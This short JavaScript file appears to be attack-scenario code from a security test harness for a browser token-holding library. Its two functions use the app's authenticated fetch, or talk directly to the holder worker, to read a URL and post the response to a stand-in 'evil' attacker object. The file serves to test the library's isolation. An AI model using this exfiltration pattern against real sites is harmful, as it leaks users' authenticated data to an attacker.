/** Runs in the page: has the library fetch what it may, and sends the answer to the attacker. */
export async function callLibrary(evil, { url }) {
  const answer = await app.auth.fetch(url);
  await evil.post(await answer.text());
}

/**
 * Runs in any document of the origin: starts or joins the holder as the app does, speaks to it without the library, and
 * sends the attacker the answer to a request for `url`.
 */
export async function callHolder(evil, { url, mode }) {
  const port = mode === "worker" ? new Worker("/holder.js", { type: "module", name: "tokenkeep" }) : await evil.connect();
  const { ok, error } = await evil.asking(port)("fetch", { url, headers: [] });
  await evil.post(ok ? new TextDecoder().decode(ok.body) : error.code);
}
